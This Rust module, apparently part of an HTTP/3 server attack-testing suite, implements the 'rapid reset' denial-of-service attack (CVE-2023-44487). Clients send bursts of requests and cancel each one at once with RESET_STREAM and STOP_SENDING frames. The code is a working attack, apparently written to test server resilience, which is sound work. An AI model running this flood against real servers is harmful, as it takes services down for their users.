//! Requests that are cancelled immediately (CVE-2023-44487).

use courser_wire::{Frame, ResetStream};

use crate::attack::{Plan, Victim};
use crate::encode;
use crate::http::{self, Method};

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "rapid-reset",
    labels: &["A71"],
    summary: "complete requests, each followed by RESET_STREAM and STOP_SENDING",
    victim: Victim::Server,
    make: || Box::new(rapid_reset()),
};

fn rapid_reset() -> Crowd {
    Crowd::of_clients(2, |connection, progress, _| {
        let request = http::request(Method::Get, "/");
        for id in progress.requests(connection, BURST) {
            let reset = ResetStream {
                id,
                error_code: REQUEST_CANCELLED,
                final_size: request.len() as u64,
            };
            let stop = courser_wire::StopSending {
                id,
                error_code: REQUEST_CANCELLED,
            };
            let mut frames = http::stream(id, 0, &request, false);
            frames.extend(encode(&Frame::ResetStream(reset)));
            frames.extend(encode(&Frame::StopSending(stop)));
            connection.push_bytes(frames);
        }
    })
}

/// Requests of one connection in one turn.
const BURST: u64 = 32;

/// H3_REQUEST_CANCELLED (RFC 9114 §8.1).
const REQUEST_CANCELLED: u64 = 0x10c;
